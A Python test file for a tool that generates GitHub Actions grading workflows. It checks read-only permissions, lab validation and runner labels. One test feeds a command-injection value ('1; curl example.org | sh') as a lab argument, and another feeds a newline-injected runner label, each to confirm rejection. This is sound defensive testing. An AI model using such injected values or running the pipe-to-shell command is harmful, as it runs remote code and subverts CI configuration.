"""The workflow for GitHub Actions."""

import pytest

import grader
from gradebook.export import github
from gradebook.export.github import WorkflowError


def test_the_workflow_may_only_read() -> None:
    text = github.workflow(grader.course())
    block = text.partition("permissions:\n")[2].partition("\n\n")[0]
    assert [line.strip() for line in block.splitlines()] == ["contents: read"]
    assert "persist-credentials: false" in text


def test_the_workflow_grades_the_wanted_labs() -> None:
    assert "run: make grade LAB=1,3\n" in github.workflow(grader.course(), lab="1,3")
    assert "run: make grade\n" in github.workflow(grader.course())


def test_a_lab_that_there_is_not_is_refused() -> None:
    with pytest.raises(WorkflowError, match="there is no lab 9; the labs are 1, 2, 3, 4, 5"):
        github.workflow(grader.course(), lab="9")


def test_labs_cannot_smuggle_in_a_command() -> None:
    with pytest.raises(WorkflowError):
        github.workflow(grader.course(), lab="1; curl example.org | sh")


def test_a_runner_of_ones_own_is_named_by_its_labels() -> None:
    assert "runs-on: ubuntu-latest\n" in github.workflow(grader.course())
    assert 'runs-on: ["self-hosted", "gpu"]\n' in github.workflow(grader.course(), runs_on="self-hosted,gpu")
    with pytest.raises(WorkflowError, match="is no label of a runner"):
        github.workflow(grader.course(), runs_on="gpu\nsteps: []")
